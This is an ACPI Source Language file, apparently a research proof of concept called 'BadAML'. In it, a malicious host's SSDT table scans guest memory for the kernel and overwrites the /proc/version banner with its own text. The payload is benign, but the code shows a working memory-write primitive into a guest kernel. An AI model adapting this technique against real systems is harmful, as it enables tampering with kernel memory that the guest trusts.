// What a malicious host adds to its ACPI tables ("BadAML"): when the kernel loads
// the table, _INI looks for the kernel in memory, wherever it was put, and
// overwrites the text that /proc/version prints. BANNER is how far the text stands
// behind the start of the kernel, which begins on 2 MiB.
DefinitionBlock ("", "SSDT", 2, "HOST  ", "BADAML", 1)
{
    Device (\_SB.HOST)
    {
        Name (_HID, "HOST0001")
        Name (TEXT, "BADAML: the host was here        ")
        Method (_INI, 0, Serialized)
        {
            Local0 = 0x01000000
            While (Local0 < 0x3C000000)
            {
                If (LOOK (Local0 + BANNER) == 0x6973726576207325) // "%s versi"
                {
                    FILL (Local0 + BANNER + 15)
                    Return
                }
                Local0 += 0x00200000
            }
        }
        Method (LOOK, 1, Serialized)
        {
            OperationRegion (HERE, SystemMemory, Arg0, 8)
            Field (HERE, QWordAcc, NoLock, Preserve) { WORD, 64 }
            Return (WORD)
        }
        Method (FILL, 1, Serialized)
        {
            ToBuffer (TEXT, Local2)
            Local1 = 0
            While (Local1 < 30)
            {
                SETB (Arg0 + Local1, DerefOf (Local2 [Local1]))
                Local1++
            }
        }
        Method (SETB, 2, Serialized)
        {
            OperationRegion (HERE, SystemMemory, Arg0, 1)
            Field (HERE, ByteAcc, NoLock, Preserve) { BYTE, 8 }
            BYTE = Arg1
        }
    }
}
